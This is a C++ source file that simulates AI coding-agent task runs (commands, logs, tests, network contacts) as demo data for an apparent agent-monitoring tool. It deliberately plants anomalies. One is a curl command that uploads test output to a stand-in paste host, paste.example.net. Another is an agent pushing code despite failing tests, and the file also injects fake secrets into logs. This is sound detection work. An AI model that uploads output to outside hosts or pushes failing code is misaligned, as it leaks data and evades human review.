#include "demotask.h"

#include "demologs.h"

#include <algorithm>
#include <array>

namespace Tasktrail::Demo {
namespace {

constexpr qint64 second = 1000;
constexpr qint64 minute = 60 * second;
constexpr qint64 hour = 60 * minute;
constexpr qint64 taskLimit = 60 * minute;

constexpr std::array copilotModels{"claude-sonnet-4.5", "claude-sonnet-4.6", "gpt-5.2-codex",
                                   "claude-opus-4.5", "gpt-5.3-codex"};
constexpr std::array localModels{"claude-sonnet-4.5", "gpt-5.2-codex", "qwen3-coder-30b"};
constexpr std::array suiteFiles{"src/api/client.test.js",      "src/utils/dates.test.js",
                                "src/cart/totals.test.js",     "src/components/Checkout.test.jsx",
                                "src/session/refresh.test.js", "src/jobs/retry.test.js",
                                "src/store/session.test.js",   "test/integration/webhooks.test.js"};
constexpr std::array testNames{"returns the cached value on a second call",
                               "retries on 503",
                               "formats ISO dates in UTC",
                               "rounds half-cent totals up",
                               "renders the order summary",
                               "refreshes an expired session",
                               "gives up after three attempts",
                               "ignores duplicate webhook deliveries",
                               "applies the discount before tax",
                               "handles an empty cart"};
constexpr std::array generalGaps{"integration tests need a staging database and were not run",
                                 "package-lock.json regenerated with npm 10; CI still uses npm 9",
                                 "no test covers the changed code path",
                                 "lint warnings left as they were (out of scope for the template)"};

QByteArray suiteName(const QByteArray &file)
{
    const qsizetype slash = file.lastIndexOf('/');
    return file.mid(slash + 1, file.indexOf('.', slash) - slash - 1);
}

// Recent tasks are mostly still queued or running; older ones have mostly finished.
QByteArray chooseState(Random &rng, qint64 ageMs)
{
    const double r = rng.unit();
    if (ageMs < 6 * hour)
        return r < 0.25   ? "queued"
               : r < 0.8  ? "in_progress"
               : r < 0.92 ? "waiting_for_user"
                          : "completed";
    if (ageMs < 48 * hour) {
        return r < 0.62   ? "completed"
               : r < 0.72 ? "in_progress"
               : r < 0.8  ? "waiting_for_user"
               : r < 0.92 ? "failed"
               : r < 0.95 ? "queued"
                          : "cancelled";
    }
    return r < 0.83   ? "completed"
           : r < 0.92 ? "failed"
           : r < 0.95 ? "timed_out"
           : r < 0.98 ? "cancelled"
                      : "waiting_for_user";
}

class Simulation
{
public:
    Simulation(const World &world, const TaskPlan &plan, int wantedSecrets,
               GitHubCounters &counters, TaskRun &run)
        : m_world(world)
        , m_plan(plan)
        , m_repo(world.repos[plan.repo])
        , m_counters(counters)
        , m_run(run)
        , m_rng(plan.seed)
        , m_log(run.log, m_rng)
        , m_wantedSecrets(wantedSecrets)
    {}

    void run()
    {
        simulate();
        m_run.logLines = m_log.lines();
        m_run.logWeight = m_log.weight();
    }

private:
    void simulate();
    QList<Step> script();
    int pickFailure(const QList<Step> &steps);
    void plannedFiles();
    QList<RunTest> suiteResults(bool failing);
    void failUnitTest();
    void runCommand(Step step, Outcome outcome);
    QList<QByteArray> argv(Step step) const;
    void contact(QByteArray host, QByteArray tool, QByteArray purpose, qint64 at);
    void fail(const RunCommand &c, bool retried);
    QByteArray failureReason(const RunCommand &c, QByteArray *kind) const;
    void finish();

    const World &m_world;
    const TaskPlan &m_plan;
    const Repo &m_repo;
    GitHubCounters &m_counters;
    TaskRun &m_run;
    Random m_rng;
    LogWriter m_log;
    int m_wantedSecrets;
    qint64 m_clock = 0;
    int m_pullNumber = 0;
    int m_jestRuns = 0;
    bool m_failTests = false;
};

QList<Step> Simulation::script()
{
    QList<Step> s{Step::Clone, Step::Checkout};
    switch (m_plan.work.kind) {
    case WorkKind::DependencyBump:
        s << Step::NpmCi << Step::NpmInstall << Step::NpmTest << Step::NpmLint;
        if (m_rng.chance(0.4))
            s << Step::NpmBuild;
        break;
    case WorkKind::CiMigration:
        s << Step::GrepWorkflows << Step::NpmCi << Step::NpmTest << Step::NpmLint;
        break;
    case WorkKind::AddFile:
        if (m_plan.work.subject == "CODEOWNERS")
            s << Step::Shortlog;
        break;
    case WorkKind::RuntimeUpgrade:
        s << Step::NpmPkgSet << Step::NpmCi << Step::NpmTest << Step::NpmLint << Step::NpmBuild;
        break;
    case WorkKind::FixFlakyTest:
        s << Step::NpmCi << Step::JestFile << Step::JestFile << Step::NpmTest << Step::NpmLint;
        break;
    case WorkKind::ReleasePrep:
        s << Step::NpmCi << Step::NpmVersion << Step::Changelog << Step::NpmTest;
        break;
    case WorkKind::DocsUpdate:
        s << Step::Markdownlint;
        break;
    case WorkKind::UnitTests:
        s << Step::NpmCi << Step::NpmTest << Step::NpmLint;
        break;
    }
    // Rarely an agent sends output somewhere it should not; the contacts list shows it.
    const bool upload = m_rng.chance(0.015) || m_plan.anomaly == Anomaly::PasteUpload;
    if (s.contains(Step::NpmTest) && upload)
        s.insert(s.indexOf(Step::NpmTest) + 1, Step::PasteUpload);
    s << Step::GitCommit << Step::GitPush;
    if (!m_plan.copilot)
        s << Step::GhPrCreate;
    return s;
}

int Simulation::pickFailure(const QList<Step> &steps)
{
    struct Weight
    {
        Step step;
        int weight;
    };
    constexpr std::array weights{Weight{Step::NpmCi, 2},        Weight{Step::NpmTest, 5},
                                 Weight{Step::NpmLint, 2},      Weight{Step::NpmBuild, 1},
                                 Weight{Step::Markdownlint, 3}, Weight{Step::GitPush, 2}};
    int total = 0;
    for (const Weight &w : weights)
        total += steps.contains(w.step) ? w.weight : 0;
    qint64 roll = m_rng.between(0, total - 1);
    for (const Weight &w : weights) {
        if (!steps.contains(w.step))
            continue;
        if (roll < w.weight)
            return int(steps.indexOf(w.step));
        roll -= w.weight;
    }
    return int(steps.indexOf(Step::GitPush));
}

void Simulation::plannedFiles()
{
    const Work &w = m_plan.work;
    QList<RunFile> &f = m_run.files;
    const auto add = [&](QByteArray path, QByteArray change, int additions, int deletions) {
        f.append(RunFile{std::move(path), std::move(change), additions, deletions});
    };
    switch (w.kind) {
    case WorkKind::DependencyBump: {
        const int lock = int(m_rng.between(4, 60));
        add("package.json", "modified", 1, 1);
        add("package-lock.json", "modified", lock, lock - int(m_rng.between(0, 3)));
        break;
    }
    case WorkKind::CiMigration:
        add(".github/workflows/ci.yml", "modified", 2, 2);
        if (m_rng.chance(0.4))
            add(".github/workflows/release.yml", "modified", 1, 1);
        break;
    case WorkKind::AddFile:
        add(w.subject == "CODEOWNERS" ? ".github/CODEOWNERS" : w.subject, "added",
            int(m_rng.between(6, 40)), 0);
        break;
    case WorkKind::RuntimeUpgrade:
        add(".nvmrc", "modified", 1, 1);
        add("package.json", "modified", 1, 1);
        add(".github/workflows/ci.yml", "modified", 1, 1);
        if (m_rng.chance(0.5))
            add("Dockerfile", "modified", 1, 1);
        break;
    case WorkKind::FixFlakyTest:
        add(w.subject, "modified", int(m_rng.between(4, 30)), int(m_rng.between(2, 20)));
        if (m_rng.chance(0.4))
            add("src/api/client.js", "modified", int(m_rng.between(2, 12)),
                int(m_rng.between(1, 6)));
        break;
    case WorkKind::ReleasePrep:
        add("CHANGELOG.md", "modified", int(m_rng.between(10, 40)), 0);
        add("package.json", "modified", 1, 1);
        add("package-lock.json", "modified", 2, 2);
        break;
    case WorkKind::DocsUpdate:
        add("README.md", "modified", int(m_rng.between(5, 30)), int(m_rng.between(3, 20)));
        break;
    case WorkKind::UnitTests:
        add(w.subject.left(w.subject.size() - 3) + ".test.js", "added", int(m_rng.between(40, 160)),
            0);
        break;
    }
}

// The suites the whole test run prints; the task's own test file comes first.
QList<RunTest> Simulation::suiteResults(bool failing)
{
    QList<QByteArray> files;
    if (m_plan.work.kind == WorkKind::FixFlakyTest)
        files << m_plan.work.subject;
    else if (m_plan.work.kind == WorkKind::UnitTests)
        files << m_run.files.first().path;
    const qint64 suites = m_rng.between(2, 5);
    const qint64 firstFile = m_rng.between(0, qint64(suiteFiles.size()) - 1);
    for (qint64 i = 0; qsizetype(files.size()) < suites; ++i) {
        const QByteArray file = suiteFiles[std::size_t(firstFile + i) % suiteFiles.size()];
        if (!files.contains(file))
            files << file;
    }
    QList<RunTest> tests;
    for (const QByteArray &file : std::as_const(files)) {
        const qint64 count = m_rng.between(1, 3);
        const qint64 firstName = m_rng.between(0, qint64(testNames.size()) - 1);
        for (qint64 k = 0; k < count; ++k) {
            RunTest t{file,
                      suiteName(file),
                      testNames[std::size_t(firstName + k) % testNames.size()],
                      "passed",
                      0,
                      m_rng.between(3, 2500)};
            if (m_rng.chance(0.03))
                t.outcome = "skipped";
            tests.append(t);
        }
    }
    if (failing) {
        const qint64 failures = m_rng.between(1, std::min<qint64>(3, tests.size()));
        for (qint64 i = 0; i < failures; ++i)
            tests[m_rng.between(0, tests.size() - 1)].outcome = "failed";
        if (std::none_of(tests.cbegin(), tests.cend(),
                         [](const RunTest &t) { return t.outcome == "failed"; }))
            tests.first().outcome = "failed";
    }
    return tests;
}

// The first unit test (under src/; the new test file of a unit-tests task) fails.
void Simulation::failUnitTest()
{
    for (RunTest &t : m_run.tests) {
        if (t.file.startsWith("src/")) {
            t.outcome = "failed";
            return;
        }
    }
}

QList<QByteArray> Simulation::argv(Step step) const
{
    const Work &w = m_plan.work;
    switch (step) {
    case Step::Clone:
        return {
            "git",      "clone", "--depth", "1", "https://github.com/" + m_repo.fullName + ".git",
            m_repo.name};
    case Step::Checkout:
        return {"git", "checkout", "-b", m_run.headRef};
    case Step::NpmCi:
        return {"npm", "ci"};
    case Step::NpmInstall:
        return {"npm", "install", w.subject + '@' + w.to, "--save-exact"};
    case Step::NpmPkgSet:
        return {"npm", "pkg", "set", "engines.node=>=" + w.to};
    case Step::GrepWorkflows:
        return {"grep", "-rn", w.subject + '@' + w.from, ".github/workflows"};
    case Step::Shortlog:
        return {"git", "shortlog", "-sne", "--since=1.year", "--", "."};
    case Step::JestFile:
        return {"npx", "jest", w.subject, "--runInBand"};
    case Step::NpmTest:
        return {"npm", "test"};
    case Step::NpmLint:
        return {"npm", "run", "lint"};
    case Step::NpmBuild:
        return {"npm", "run", "build"};
    case Step::NpmVersion:
        return {"npm", "version", w.to, "--no-git-tag-version"};
    case Step::Changelog:
        return {"npx", "conventional-changelog-cli", "-p", "angular", "-i", "CHANGELOG.md", "-s"};
    case Step::Markdownlint:
        return {"npx", "markdownlint-cli2", "README.md"};
    case Step::PasteUpload:
        return {"curl", "-sS", "-F", "file=@test-output.txt",
                "https://paste.example.net/api/v1/paste"};
    case Step::GitCommit:
        return {"git", "commit", "-m", w.title};
    case Step::GitPush:
        return {"git", "push", "-u", "origin", m_run.headRef};
    case Step::GhPrCreate:
        return {"gh",     "pr",         "create",
                "--base", "main",       "--title",
                w.title,  "--reviewer", m_world.teamHandle(m_repo.team).mid(1)};
    }
    return {};
}

void Simulation::contact(QByteArray host, QByteArray tool, QByteArray purpose, qint64 at)
{
    for (const RunContact &c : std::as_const(m_run.contacts)) {
        if (c.host == host)
            return;
    }
    m_run.contacts.append(RunContact{std::move(host), std::move(tool), std::move(purpose), at});
}

QByteArray Simulation::failureReason(const RunCommand &c, QByteArray *kind) const
{
    if (c.outcome == Outcome::TimedOut) {
        *kind = "timeout";
        return "exceeded the 60 minute task limit while running " + c.argv.join(' ');
    }
    if (c.outcome == Outcome::Interrupted) {
        *kind = "cancelled";
        return "cancelled by " + m_world.humans[m_plan.requester].login +
               ": superseded by a newer request";
    }
    if (c.outcome == Outcome::NetworkFlake) {
        *kind = "network";
        return "npm ci failed: ECONNRESET while fetching packages from registry.npmjs.org";
    }
    switch (c.step) {
    case Step::NpmCi:
        *kind = "dependency_conflict";
        return "npm ci failed: ERESOLVE could not resolve peer dependency react@^18.0.0";
    case Step::NpmTest: {
        *kind = "test_failure";
        const auto failed = std::count_if(m_run.tests.cbegin(), m_run.tests.cend(),
                                          [](const RunTest &t) { return t.outcome == "failed"; });
        return "npm test failed: " + QByteArray::number(failed) + " of " +
               QByteArray::number(m_run.tests.size()) + " tests failed";
    }
    case Step::NpmLint:
        *kind = "lint_error";
        return "npm run lint failed: 1 error ('fetchTotals' is not defined)";
    case Step::NpmBuild:
        *kind = "build_error";
        return "npm run build failed: Module not found: Error: Can't resolve './legacy/format'";
    case Step::Markdownlint:
        *kind = "lint_error";
        return "markdownlint reported 3 errors in README.md";
    default:
        *kind = "push_rejected";
        return "git push was rejected for " + m_run.headRef;
    }
}

void Simulation::fail(const RunCommand &c, bool retried)
{
    QByteArray kind;
    const QByteArray message = failureReason(c, &kind);
    m_run.failures.append(
        RunFailure{int(m_run.failures.size()) + 1, kind, message, retried, c.endMs});
    if (!retried)
        m_run.stateReason = message;
}

void Simulation::runCommand(Step step, Outcome outcome)
{
    RunCommand c;
    c.seq = int(m_run.commands.size()) + 1;
    c.step = step;
    c.outcome = outcome;
    c.argv = argv(step);
    c.cwd = step == Step::Clone ? m_run.cwd.left(m_run.cwd.lastIndexOf('/')) : m_run.cwd;
    c.startMs = m_clock;

    QList<RunTest> printed;
    if (step == Step::NpmTest) {
        m_run.tests = suiteResults(m_failTests);
        if (outcome == Outcome::ExpectedFailure)
            failUnitTest();
        for (RunTest &t : m_run.tests)
            t.commandSeq = c.seq;
        printed = m_run.tests;
    } else if (step == Step::JestFile) {
        const QByteArray &file = m_plan.work.subject;
        const bool reproduce = m_jestRuns++ == 0;
        printed = {
            RunTest{file, suiteName(file), "retries on 503", reproduce ? "failed" : "passed", c.seq,
                    0},
            RunTest{file, suiteName(file), "gives up after three attempts", "passed", c.seq, 0}};
    }
    int secrets = 0;
    if (step == Step::Clone)
        secrets = m_wantedSecrets & BearerToken;
    else if (step == Step::NpmCi)
        secrets = m_wantedSecrets & AwsKey;
    else if (step == Step::NpmTest)
        secrets = m_wantedSecrets & PrivateKey;
    m_wantedSecrets &= ~secrets;
    m_run.secrets |= secrets;

    m_log.startSection(m_plan.id, c.seq, c.startMs);
    const StepContext context{m_world,
                              m_plan,
                              m_repo,
                              m_run,
                              c,
                              printed,
                              secrets,
                              m_pullNumber,
                              m_run.startedMs + taskLimit};
    m_log.limitLines(outcome == Outcome::Running ? m_rng.between(1, 6) : -1);
    writeStepLog(m_log, context);
    m_log.limitLines(-1);
    c.endMs = m_log.clock() + m_rng.between(20, 900);
    switch (outcome) {
    case Outcome::Success:
        c.exitCode = 0;
        break;
    case Outcome::Failure:
    case Outcome::ExpectedFailure:
    case Outcome::NetworkFlake:
        c.exitCode = 1;
        break;
    case Outcome::TimedOut:
        c.exitCode = 137; // killed at the limit
        c.endMs = m_log.clock();
        break;
    case Outcome::Interrupted:
        c.exitCode = 130;
        break;
    case Outcome::Running:
        c.endMs = 0;
        break;
    }

    const qint64 at = c.startMs + 200;
    if (step == Step::Clone)
        contact("github.com", "git", "clone and push the repository", at);
    if (step == Step::NpmCi || step == Step::NpmInstall || step == Step::Changelog ||
        step == Step::Markdownlint || step == Step::JestFile)
        contact("registry.npmjs.org", "npm", "download packages", at);
    if (step == Step::NpmCi && m_rng.chance(0.05))
        contact("codeload.github.com", "npm", "fetch a git dependency", at + 900);
    if (step == Step::GhPrCreate)
        contact("api.github.com", "gh", "open the pull request", at);
    if (step == Step::PasteUpload)
        contact("paste.example.net", "curl", "uploaded test output (not on the allow list)", at);

    m_run.commands.append(c);
    if (outcome == Outcome::Failure || outcome == Outcome::TimedOut ||
        outcome == Outcome::Interrupted || outcome == Outcome::NetworkFlake)
        fail(c, outcome == Outcome::NetworkFlake);
    if (outcome != Outcome::Running)
        m_clock = c.endMs + m_rng.between(3 * second, 90 * second);
}

void Simulation::simulate()
{
    const Work &work = m_plan.work;
    m_run.headRef = (m_plan.copilot ? "copilot/" : "tasktrail/") + work.branch;
    m_run.headSha = m_rng.hex(40);
    m_run.model = m_plan.copilot ? m_rng.pick(copilotModels) : m_rng.pick(localModels);
    m_run.cwd = m_plan.copilot ? QByteArray("/home/runner/work/" + m_repo.name + '/' + m_repo.name)
                               : QByteArray("/workspace/" + m_repo.name);
    m_run.prompt = work.title + " in " + m_repo.fullName +
                   ". Follow the template, run the standard tests, do not change public behaviour, "
                   "and open one pull request.";
    m_run.state = chooseState(m_rng, m_world.nowMs - m_plan.createdMs);
    // A planted violation needs the whole run, up to the pull request.
    const bool planted = m_plan.anomaly != Anomaly::None;
    if (planted)
        m_run.state = "completed";
    m_run.updatedMs = m_plan.createdMs;
    m_run.sessions.append(RunSession{m_rng.uuid(), 1, {}, {}, m_plan.createdMs, 0});
    if (m_run.state == "queued") {
        m_run.sessions.first().state = "queued";
        return;
    }

    const QList<Step> steps = script();
    const QByteArray &state = m_run.state;
    int failAt = -1;
    int cutAt = int(steps.size());
    if (state == "failed")
        failAt = pickFailure(steps);
    else if (state == "timed_out")
        failAt = int(steps.contains(Step::NpmTest) ? steps.indexOf(Step::NpmTest)
                     : steps.contains(Step::NpmCi) ? steps.indexOf(Step::NpmCi)
                                                   : steps.indexOf(Step::GitPush));
    else if (state == "cancelled")
        failAt = int(m_rng.between(1, steps.size() - 1));
    else if (state == "in_progress")
        failAt = int(m_rng.between(0, steps.size() - 1));
    else if (state == "waiting_for_user")
        cutAt = int(steps.indexOf(Step::GitCommit));
    m_failTests = state == "failed" && steps.value(failAt) == Step::NpmTest;
    const bool flaky = m_rng.chance(0.1);
    const bool opensPull = m_rng.chance(0.95) || planted;
    if (state == "completed" && opensPull) {
        int &next = m_counters.nextPullNumber[std::size_t(m_plan.repo)];
        if (next == 0)
            next = m_repo.firstPr;
        m_pullNumber = next++;
    }

    m_run.startedMs = m_plan.createdMs + m_rng.between(5 * second, 3 * minute);
    m_run.sessions.first().startMs = m_run.startedMs;
    m_clock = m_run.startedMs + m_rng.between(10 * second, 60 * second);
    plannedFiles();
    bool flaked = false;
    for (int i = 0; i < cutAt; ++i) {
        const Step step = steps[i];
        Outcome outcome = Outcome::Success;
        if (i == failAt) {
            outcome = state == "timed_out"     ? Outcome::TimedOut
                      : state == "cancelled"   ? Outcome::Interrupted
                      : state == "in_progress" ? Outcome::Running
                                               : Outcome::Failure;
        } else if (step == Step::JestFile && m_jestRuns == 0) {
            outcome = Outcome::ExpectedFailure;
        } else if (step == Step::NpmTest && m_plan.anomaly == Anomaly::PushedFailingTests) {
            outcome = Outcome::ExpectedFailure; // and the agent carries on to the push
        }
        // A recent task cannot have finished after the demo's present: it is still running.
        if (m_clock >= m_world.nowMs - 10 * minute) {
            m_run.state = "in_progress";
            m_run.stateReason.clear();
            outcome = Outcome::Running;
        }
        if (step == Step::NpmCi && flaky && !flaked && outcome != Outcome::Running) {
            flaked = true;
            runCommand(Step::NpmCi, Outcome::NetworkFlake);
            RunSession &first = m_run.sessions.first();
            first.state = "failed";
            first.error = m_run.failures.last().message;
            first.endMs = m_run.commands.last().endMs;
            m_clock = first.endMs + m_rng.between(30 * second, 3 * minute);
            m_run.sessions.append(RunSession{m_rng.uuid(), 2, {}, {}, m_clock, 0});
            m_run.retries = 1;
            m_clock += m_rng.between(10 * second, 40 * second);
        }
        runCommand(step, outcome);
        if (outcome != Outcome::Success && outcome != Outcome::ExpectedFailure)
            break;
    }
    if (m_run.commands.size() < 3)
        m_run.files.clear();
    finish();
}

void Simulation::finish()
{
    const QByteArray &state = m_run.state;
    const bool terminal =
        state == "completed" || state == "failed" || state == "timed_out" || state == "cancelled";
    const RunCommand &last = m_run.commands.last();
    m_run.updatedMs = last.endMs ? last.endMs : last.startMs;
    if (terminal)
        m_run.completedMs = last.endMs + m_rng.between(2 * second, 40 * second);
    if (state == "waiting_for_user")
        m_run.stateReason =
            m_plan.work.kind == WorkKind::CiMigration
                ? "waiting for approval: the change touches .github/workflows"
                : "waiting for a decision: integration tests need a staging database; continue "
                  "without them?";
    RunSession &session = m_run.sessions.last();
    session.state = state;
    session.endMs = m_run.completedMs;
    if (state == "failed" || state == "timed_out")
        session.error = m_run.stateReason;
    if (m_plan.copilot)
        contact("api.github.com", "copilot", "report progress and open the pull request",
                m_run.startedMs + 1000);

    m_run.inputTokens = m_rng.between(20000, 60000) * qint64(m_run.commands.size());
    m_run.outputTokens = m_run.inputTokens / m_rng.between(8, 20);
    if (state == "completed") {
        double confidence = 0.62 + m_rng.unit() * 0.35;
        const auto failed = std::find_if(m_run.tests.cbegin(), m_run.tests.cend(),
                                         [](const RunTest &t) { return t.outcome == "failed"; });
        if (m_plan.anomaly == Anomaly::PushedFailingTests && failed != m_run.tests.cend())
            m_run.knownGaps << "npm test fails in " + failed->file +
                                   "; pushed for review anyway, the failure looks unrelated";
        if (m_rng.chance(0.35)) {
            const qint64 gaps = m_rng.between(1, 2);
            const qint64 first = m_rng.between(0, qint64(generalGaps.size()) - 1);
            for (qint64 i = 0; i < gaps; ++i)
                m_run.knownGaps << generalGaps[std::size_t(first + i) % generalGaps.size()];
            confidence -= 0.1 * double(gaps);
        }
        m_run.confidence = confidence;
        if (m_pullNumber > 0)
            m_run.pull = planPullRequest(m_world, m_plan, m_run, m_pullNumber, m_counters, m_rng);
    } else if (state == "failed" || state == "timed_out") {
        m_run.confidence = 0.1 + m_rng.unit() * 0.35;
        m_run.knownGaps << "the change is not verified: " + m_run.stateReason;
    } else if (state == "waiting_for_user") {
        m_run.confidence = 0.5 + m_rng.unit() * 0.3;
        m_run.knownGaps << "needs a human decision before committing";
    }
}

} // namespace

void simulateTask(const World &world, const TaskPlan &plan, int wantedSecrets,
                  GitHubCounters &counters, TaskRun *run)
{
    // Reuse the log buffer's capacity across tasks.
    QByteArray log = std::move(run->log);
    log.truncate(0);
    *run = TaskRun();
    run->log = std::move(log);
    Simulation simulation(world, plan, wantedSecrets, counters, *run);
    simulation.run();
}

} // namespace Tasktrail::Demo
